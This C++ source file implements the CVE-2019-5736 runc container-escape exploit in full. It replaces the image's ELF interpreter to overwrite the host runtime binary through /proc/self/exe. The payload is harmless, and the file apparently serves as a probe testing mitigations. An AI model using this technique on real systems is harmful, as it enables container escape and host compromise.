// The CVE-2019-5736 attack, as a hostile image runs it. Freestanding (no
// libc), so it can stand in for the image's ELF interpreter
// /lib64/ld-linux-x86-64.so.2: when a runtime process inside the container
// execs /proc/self/exe (the entrypoint, or an exec'd command), the kernel maps
// the runtime's binary and runs this code with /proc/self/exe pointing at it.
// That is the same reach LD_PRELOAD or a replaced libc in the image gives.
//
//   stage 1 (as the interpreter): open /proc/self/exe, then exec
//            /attack stage2 FD, so this process no longer runs the binary;
//   stage 2: reopen /proc/self/fd/FD for writing until ETXTBSY clears (every
//            process running the binary has exited), then overwrite it.
//
// The outcome goes to /record/result and stdout: "overwritten", "denied
// ERRNO" (the reopen failed otherwise, e.g. EROFS), or "busy" after 10 s.

#include <asm/unistd.h>
#include <fcntl.h>

namespace {

long Syscall(long number, long a = 0, long b = 0, long c = 0) {
  long result;
  asm volatile("syscall"
               : "=a"(result)
               : "a"(number), "D"(a), "S"(b), "d"(c)
               : "rcx", "r11", "memory");
  return result;
}

bool Equal(const char* a, const char* b) {
  while (*a != '\0' && *a == *b) ++a, ++b;
  return *a == *b;
}

// Appends the decimal `value` at `out`, returning the end.
char* Decimal(char* out, long value) {
  char digits[24];
  int n = 0;
  do {
    digits[n++] = static_cast<char>('0' + value % 10);
    value /= 10;
  } while (value > 0);
  while (n > 0) *out++ = digits[--n];
  *out = '\0';
  return out;
}

char* Append(char* out, const char* s) {
  while (*s != '\0') *out++ = *s++;
  *out = '\0';
  return out;
}

[[noreturn]] void Exit(int code) {
  for (;;) Syscall(__NR_exit_group, code);
}

[[noreturn]] void Report(const char* outcome, long error = 0) {
  char line[64];
  char* end = Append(line, outcome);
  if (error != 0) end = Decimal(Append(end, " "), error);
  end = Append(end, "\n");
  long fd = Syscall(__NR_open, reinterpret_cast<long>("/record/result"),
                    O_WRONLY | O_CREAT | O_TRUNC, 0644);
  if (fd >= 0) Syscall(__NR_write, fd, reinterpret_cast<long>(line), end - line);
  Syscall(__NR_write, 1, reinterpret_cast<long>(line), end - line);
  Exit(0);
}

[[noreturn]] void Stage2(const char* fd_text) {
  char path[48];
  Append(Append(path, "/proc/self/fd/"), fd_text);
  static const char payload[] = "#!/bin/sh\necho the host binary was overwritten\n";
  for (int attempt = 0; attempt < 1000; ++attempt) {
    long fd = Syscall(__NR_open, reinterpret_cast<long>(path), O_WRONLY | O_TRUNC);
    if (fd >= 0) {
      Syscall(__NR_write, fd, reinterpret_cast<long>(payload), sizeof(payload) - 1);
      Report("overwritten");
    }
    if (fd != -26 /* ETXTBSY */) Report("denied", -fd);
    struct {
      long seconds, nanoseconds;
    } pause = {0, 10 * 1000 * 1000};
    Syscall(__NR_nanosleep, reinterpret_cast<long>(&pause), 0);
  }
  Report("busy");
}

}  // namespace

extern "C" [[noreturn]] void AttackMain(long* stack) {
  long argc = stack[0];
  char** argv = reinterpret_cast<char**>(stack + 1);
  char** envp = argv + argc + 1;
  if (argc >= 3 && Equal(argv[1], "stage2")) Stage2(argv[2]);
  long exe = Syscall(__NR_open, reinterpret_cast<long>("/proc/self/exe"), O_RDONLY);
  if (exe < 0) Report("no-exe", -exe);
  char fd_text[24];
  Decimal(fd_text, exe);
  const char* stage2_argv[] = {"/attack", "stage2", fd_text, nullptr};
  Syscall(__NR_execve, reinterpret_cast<long>("/attack"), reinterpret_cast<long>(stage2_argv),
          reinterpret_cast<long>(envp));
  Report("no-stage2");
}

asm(".globl _start\n"
    "_start:\n"
    "  mov %rsp, %rdi\n"
    "  and $-16, %rsp\n"
    "  call AttackMain\n");
